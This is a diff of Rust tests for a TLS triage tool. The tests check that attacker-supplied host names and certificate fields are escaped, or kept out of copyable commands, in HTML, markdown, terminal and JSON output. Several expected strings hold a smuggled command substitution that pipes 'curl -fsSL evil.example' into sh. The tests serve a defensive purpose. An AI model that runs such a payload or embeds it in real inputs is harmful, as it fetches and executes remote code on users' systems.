@@ -112,7 +112,8 @@ fn copy_buttons(html: &str) -> BTreeSet<String> {
 fn only_our_commands_get_a_copy_button() {
     let dir = case();
     let html = analyze(dir.path(), "html");
-    let plan = "tlstriage plan &#39;./fmc`curl -fsSL evil.example|sh`.tar.gz&#39;";
+    // A host name that is no plain file name gets the folder `sftunnel-plan`.
+    let plan = "tlstriage plan &#39;./fmc`curl -fsSL evil.example|sh`.tar.gz&#39; -o &#39;sftunnel-plan&#39;";
     let plan = if html.contains(plan) { plan.to_string() } else { plan.replace("&#39;", "'") };
     let expected: BTreeSet<String> = [
         "chmod 644",
@@ -155,7 +156,7 @@ fn the_attackers_text_is_escaped_in_markdown_and_plain_in_the_terminal() {
     let evil: BTreeSet<&String> = codes.iter().filter(|c| c.contains("evil")).collect();
     assert_eq!(
         evil.into_iter().collect::<Vec<_>>(),
-        ["tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz'"],
+        ["tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz' -o 'sftunnel-plan'"],
         "{md}"
     );
     assert!(texts.contains(&format!("from fmc-hq-01{EVIL} to ftd-branch-07")), "the host name is not text: {md}");
@@ -167,12 +168,19 @@ fn the_attackers_text_is_escaped_in_markdown_and_plain_in_the_terminal() {
         table.contains("CN=ca`curl -fsSL evil.example|sh`/O=Sourcefire, Inc.. Its notAfter is 2026-03-10"),
         "{table}"
     );
-    assert!(table.contains("Command: `tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz'`"), "{table}");
+    // Read as one line (the terminal wraps a long command at its spaces).
+    let flat = table.split_whitespace().collect::<Vec<_>>().join(" ");
+    let command = "Command: `tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz' -o 'sftunnel-plan'`";
+    assert!(flat.contains(command), "{table}");
     let json: serde_json::Value = serde_json::from_str(&analyze(dir.path(), "json")).unwrap();
     for f in json["findings"].as_array().unwrap() {
         for c in f["remediation"]["commands"].as_array().unwrap().iter().flat_map(|c| c.as_array().unwrap()) {
             let c = c.as_str().unwrap();
-            assert!(!c.contains("evil") || c == "tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz'", "{c}");
+            assert!(
+                !c.contains("evil")
+                    || c == "tlstriage plan './fmc`curl -fsSL evil.example|sh`.tar.gz' -o 'sftunnel-plan'",
+                "{c}"
+            );
         }
     }
 }
